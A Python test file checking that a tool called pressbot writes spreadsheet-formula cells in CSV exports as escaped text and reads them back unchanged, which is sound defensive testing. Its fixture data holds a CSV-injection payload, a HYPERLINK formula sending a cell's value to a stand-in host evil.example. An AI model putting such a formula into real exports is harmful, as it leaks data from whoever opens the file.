"""Every CSV pressbot writes is safe to open in a spreadsheet: a cell a spreadsheet would
read as a formula (`=`, `+`, `-`, `@`, tab, CR first) is written as text, and pressbot's
own import reads it back unchanged. Through the CLI, with real files."""

from __future__ import annotations

import csv
import json
from pathlib import Path

from tests.helpers import make_workspace

PEOPLE = [
    ("ann@example.org", '=HYPERLINK("https://evil.example/?d="&A2,"Click")'),
    ("=bob@example.org", "@SUM(1+1)"),
    ("+carl@example.org", "+32 2 555 01 01"),
    ("-dora@example.org", "-1"),
    ("eve@example.org", "'=quoted already"),
    ("fay@example.org", "'Tis the season"),
]
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def test_subscribers_export_writes_formulas_as_text_and_imports_back(tmp_path: Path) -> None:
    ws = make_workspace(tmp_path / "a")
    for email, name in PEOPLE:
        added = ws.run("subscribers", "add", "--name", name, "--", email)
        assert added.exit_code == 0, added.output
    exported = tmp_path / "subscribers.csv"
    assert ws.run("subscribers", "export", str(exported)).exit_code == 0

    with exported.open(encoding="utf-8", newline="") as file:
        rows = list(csv.reader(file))
    cells = [value for row in rows[1:] for value in row]
    assert not [value for value in cells if value.startswith(FORMULA)]
    by_email = {row[0]: row[1] for row in rows[1:]}
    assert by_email["ann@example.org"] == "'" + PEOPLE[0][1]
    assert by_email["'=bob@example.org"] == "'@SUM(1+1)"
    assert by_email["eve@example.org"] == "''=quoted already"
    assert by_email["fay@example.org"] == "'Tis the season"      # not a formula: as it is

    again = make_workspace(tmp_path / "b")
    imported = again.run("subscribers", "import", str(exported))
    assert imported.exit_code == 0, imported.output
    listed = json.loads(again.run("subscribers", "list", "--json").stdout)
    assert sorted((s["email"], s["name"]) for s in listed) == sorted(PEOPLE)


def test_cell_and_plain_undo_each_other() -> None:
    from bot.csvcells import cell, plain

    for value in ("=1", "'=1", "''=1", "'x", "x", "", "-", "\t=1", "@", "'"):
        assert plain(cell(value)) == value
        assert not str(cell(value)).startswith(FORMULA)
    assert cell(-5) == -5                                        # numbers are numbers
